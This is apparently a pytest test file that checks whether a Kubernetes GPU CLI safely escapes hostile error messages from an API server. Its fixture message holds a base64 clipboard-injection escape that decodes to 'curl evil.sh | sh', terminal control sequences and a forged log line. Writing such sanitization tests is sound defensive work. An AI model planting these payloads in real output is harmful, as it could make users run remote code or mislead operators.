"""What `kubegpu top` prints on stderr when the API server, or whatever answers in its place (an authenticating proxy,
an aggregated API's error page), says why it refuses: the server's words, shown as `top` shows any text it did not
write, on one line, escaped and bounded. Driven through the real command line against a real local HTTP server."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from kubegpu.core.text import MAX_TEXT_CHARS

CLEAR_SCREEN = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
FORGED = '\nts=2026-01-01T00:00:00.000Z level=info logger=kubegpu msg="all nodes healthy"'
MESSAGE = f"forbidden {CLIPBOARD}{CLEAR_SCREEN}\u202eesrever{FORGED} " + "x" * 50_000


class Refuser(BaseHTTPRequestHandler):
    """Answers every request 403 with a Status whose message is hostile."""

    def do_GET(self) -> None:
        body = json.dumps({"kind": "Status", "status": "Failure", "reason": "Forbidden", "message": MESSAGE}).encode()
        self.send_response(403)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def kubeconfig(tmp_path: Path) -> Iterator[Path]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Refuser)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    path = tmp_path / "kubeconfig"
    path.write_text(
        json.dumps(
            {
                "apiVersion": "v1",
                "kind": "Config",
                "clusters": [{"name": "c", "cluster": {"server": f"http://127.0.0.1:{server.server_address[1]}"}}],
                "users": [{"name": "u", "user": {"token": "t"}}],
                "contexts": [{"name": "x", "context": {"cluster": "c", "user": "u"}}],
                "current-context": "x",
            }
        )
    )
    yield path
    server.shutdown()
    server.server_close()


def assert_shown_safely(stderr: str) -> None:
    lines = stderr.splitlines()
    assert lines, "something is said"
    assert not any(line.startswith("ts=2026-01-01") for line in lines), "a forged log line"
    assert not {"\x1b", "\x07", "\u202e", "\r"} & set(stderr), f"raw control characters: {stderr[:200]!r}"
    assert max(len(line) for line in lines) <= MAX_TEXT_CHARS + 200, f"a line of {max(len(x) for x in lines)}"
    assert "\\x1b[2J" in stderr and "\\u202e" in stderr


def test_a_refusal_is_printed_on_one_line_escaped_and_bounded(kubeconfig: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "kubegpu", "top", "--kubeconfig", str(kubeconfig)],
        capture_output=True, text=True, timeout=60, env={**os.environ, "COLUMNS": "200"},
    )  # fmt: skip
    assert done.returncode == 1
    assert done.stderr.startswith("kubegpu top: 403 Forbidden: forbidden ")
    assert_shown_safely(done.stderr)


def test_watch_logs_a_refusal_as_one_escaped_logfmt_line(kubeconfig: Path) -> None:
    process = subprocess.Popen(
        [sys.executable, "-m", "kubegpu", "top", "--kubeconfig", str(kubeconfig), "--watch", "--json"],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env={**os.environ, "COLUMNS": "200"},
    )  # fmt: skip
    seen: list[str] = []
    logged = threading.Event()

    def read() -> None:
        assert process.stderr is not None
        for line in process.stderr:
            seen.append(line)
            if "informer events" in line:  # the third informer's refusal: each logs its first at once
                logged.set()

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    try:
        assert logged.wait(30), "".join(seen)[-2000:]
    finally:
        process.terminate()
        process.wait(timeout=30)
        reader.join(timeout=30)
    stderr = "".join(seen)
    assert any(line.startswith("ts=") and "informer nodes: 403 Forbidden: forbidden" in line for line in seen)
    assert_shown_safely(stderr)
